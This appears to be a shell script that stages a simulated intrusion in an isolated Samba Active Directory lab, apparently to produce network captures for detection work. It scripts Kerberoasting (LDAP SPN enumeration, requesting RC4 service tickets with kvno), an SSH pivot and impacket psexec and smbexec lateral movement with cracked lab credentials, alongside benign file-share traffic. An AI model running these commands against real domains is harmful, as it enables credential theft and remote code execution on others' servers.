# sourced by run-scenario.sh: the story played between the hosts
# Kerberoasting on one host, the cracked service account used from another host against a third
# (one intruder, three addresses). The Samba AD DC dc1 (realm LAB.LOCAL, lib/samba-dc.sh) and a
# member file server fs1 (lib/samba-member.sh: net ads join before the capture, winbindd, smbd with
# ADMIN$ and dept). The intruder's first box att has alice's phished password: ldapsearch with a
# simple bind as alice (cleartext LDAP: the entries name svc_sql and its SPN
# MSSQLSvc/sql01.lab.local:1433), kinit alice and kvno -e rc4-hmac for that SPN (the TGS-REP's ticket
# is RC4, crackable offline). Some seconds later (the password cracked) the intruder logs on from att
# to a second workstation ws2 with SSH and, from ws2, runs impacket psexec and smbexec as
# LAB\svc_sql (a Domain Admin; NTLM) against fs1: the service binary is written to fs1's ADMIN$ and
# svcctl is called (Samba implements no CreateService, so no service runs). Meanwhile a benign user
# (carol) gets Kerberos tickets and copies files to and from fs1's dept share with smbclient.
NET=172.31.237; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
MORE_HOSTS="ws2:41 fs1:30"
EXTRA_HOSTS="$NET.10 dc1.lab.local
$NET.30 fs1.lab.local
$NET.41 ws2.lab.local"
MEMBER_HOSTS="$NET.30 fs1.lab.local fs1
$NET.41 ws2.lab.local ws2"
source "$HERE/lib/samba-dc.sh"
source "$HERE/lib/samba-member.sh"
IMP=/usr/share/doc/python3-impacket/examples
ws2_sshd() {   # an OpenSSH server on ws2 (root by key only; its own config, host key and pid file)
  local W; W=$(addr ws2)
  mkdir -p /run/sshd "$RUN/ssh"
  ssh-keygen -q -t ed25519 -N '' -f "$RUN/ssh/ws2_host_key" -C ws2
  ssh-keygen -q -t ed25519 -N '' -f "$RUN/ssh/att_key" -C 'intruder@att'
  cp "$RUN/ssh/att_key.pub" "$RUN/ssh/authorized_keys"
  cat > "$RUN/ssh/sshd_config" <<CONF
ListenAddress $W
HostKey $RUN/ssh/ws2_host_key
PidFile $RUN/ssh/sshd.pid
AuthorizedKeysFile $RUN/ssh/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
PrintMotd no
CONF
  ip netns exec $P-ws2 setsid unshare -u bash -c "hostname ws2 && exec /usr/sbin/sshd -D -e -f '$RUN/ssh/sshd_config'" </dev/null >"$RUN/logs/sshd-ws2.log" 2>&1 &
  local i; for i in $(seq 1 20); do nsx ws2 bash -c "exec 3<>/dev/tcp/$W/22" 2>/dev/null && break; sleep 0.5; done
}
services() {
  samba_dc_start
  samba_member_hosts cli att ws2 fs1
  samba_member_start fs1
  ws2_sshd
}
benign_smb() {   # carol: kinit (AS-REQ with pre-auth), smbclient with Kerberos to fs1's dept share, both ways
  printf 'Minutes of the Monday meeting\n- budget\n- hiring\n' > "$RUN/minutes.txt"
  echo 'Winter!2026c' | nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" kinit carol@LAB.LOCAL >>"$RUN/logs/kinit.log" 2>&1 || true
  ( cd "$RUN" && nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" timeout 40 smbclient //fs1.lab.local/dept --use-kerberos=required \
      "${SMBC[@]}" -c "ls; put minutes.txt; get budget-2027.txt $RUN/budget-copy.txt; ls" >>"$RUN/logs/smbclient-carol.log" 2>&1 ) || true
}
play() {
  local W F; W=$(addr ws2); F=$(addr fs1)
  note "intruder: first box att $A (alice's phished password), then workstation ws2 $W (reached by SSH from att); domain controller dc1.lab.local $V (Samba 4.17 AD DC, realm LAB.LOCAL: Kerberos 88, LDAP 389, SMB 445); member file server fs1.lab.local $F (Samba 4.17 smbd + winbindd, joined with net ads join before the capture; shares ADMIN\$ and dept); benign workstation (carol) $C; dns $D"
  note "0 benign: carol gets a TGT with kinit (pre-authenticated AS-REQ) and a cifs/fs1.lab.local ticket, lists fs1's dept share, puts minutes.txt and gets budget-2027.txt (smbclient, Kerberos, SMB2/3)"
  benign_smb
  sleep 2
  note "1 Kerberoasting from att $A with alice/Sunshine!2026: ldapsearch with a simple bind as alice (cleartext LDAP) lists the users with a servicePrincipalName (entries: svc_sql with MSSQLSvc/sql01.lab.local:1433, krbtgt with kadmin/changepw); kinit alice (pre-authenticated) and kvno -e rc4-hmac MSSQLSvc/sql01.lab.local:1433: a TGS-REQ for RC4 only, the TGS-REP's ticket is RC4 (etype 23), encrypted with svc_sql's key"
  printf '[libdefaults]\n\tdefault_realm = LAB.LOCAL\n\tdns_lookup_kdc = false\n\tdefault_tgs_enctypes = rc4-hmac\n\tdefault_tkt_enctypes = rc4-hmac aes256-cts-hmac-sha1-96\n\tpermitted_enctypes = rc4-hmac aes256-cts-hmac-sha1-96\n\tallow_weak_crypto = true\n\tudp_preference_limit = 1\n[realms]\n\tLAB.LOCAL = {\n\t\tkdc = %s\n\t}\n' $V > "$RUN/krb5-att.conf"
  nsx att timeout 40 ldapsearch -x -LLL -H ldap://$V -D 'alice@lab.local' -w 'Sunshine!2026' -b 'DC=lab,DC=local' '(&(objectCategory=user)(servicePrincipalName=*))' sAMAccountName servicePrincipalName memberOf >"$RUN/logs/ldapsearch.log" 2>&1 || true
  sleep 1
  echo 'Sunshine!2026' | nsx att env KRB5_CONFIG="$RUN/krb5-att.conf" KRB5CCNAME="FILE:$RUN/cc.att" timeout 40 kinit alice@LAB.LOCAL >"$RUN/logs/kinit-att.log" 2>&1 || true
  nsx att env KRB5_CONFIG="$RUN/krb5-att.conf" KRB5CCNAME="FILE:$RUN/cc.att" timeout 40 kvno -e rc4-hmac MSSQLSvc/sql01.lab.local:1433 >"$RUN/logs/kvno.log" 2>&1 || true
  sleep 8
  local SSH=(timeout 60 ssh -i "$RUN/ssh/att_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=10)
  note "2 pivot: from att $A the intruder logs on to ws2 $W with SSH (root, key; encrypted) and looks around (id; hostname)"
  nsx att "${SSH[@]}" -n root@$W 'id -un; hostname' >"$RUN/logs/ssh-ws2.log" 2>&1 || true
  sleep 2
  note "3 psexec FROM ws2 $W (started over SSH from att) against fs1 $F with the cracked svc_sql:Mssql2019! (a Domain Admin): SMB2 session setup with NTLM as LAB\\svc_sql, share enumeration (srvsvc NetShareEnumAll), ADMIN\$ writable, upload of the RemCom service binary (NAME.exe) to ADMIN\$, svcctl OpenSCManagerW, OpenServiceW, CreateServiceW (Samba implements none: fault), the binary is deleted"
  nsx att "${SSH[@]}" -n root@$W "cd /tmp && timeout 40 /usr/bin/python3 $IMP/psexec.py 'LAB/svc_sql:Mssql2019!@$F' 'cmd.exe /c whoami'" >"$RUN/logs/psexec.log" 2>&1 || true
  sleep 2
  note "4 smbexec FROM ws2 $W against fs1 $F as LAB\\svc_sql (NTLM): svcctl OpenSCManagerW, CreateServiceW with a %COMSPEC% command line that writes its output to a share (fails on Samba)"
  nsx att "${SSH[@]}" root@$W "cd /tmp && timeout 40 /usr/bin/python3 $IMP/smbexec.py 'LAB/svc_sql:Mssql2019!@$F'" >"$RUN/logs/smbexec.log" 2>&1 <<< 'whoami' || true
  sleep 2
  note "5 benign again: carol copies minutes.txt to fs1 again"
  benign_smb
}
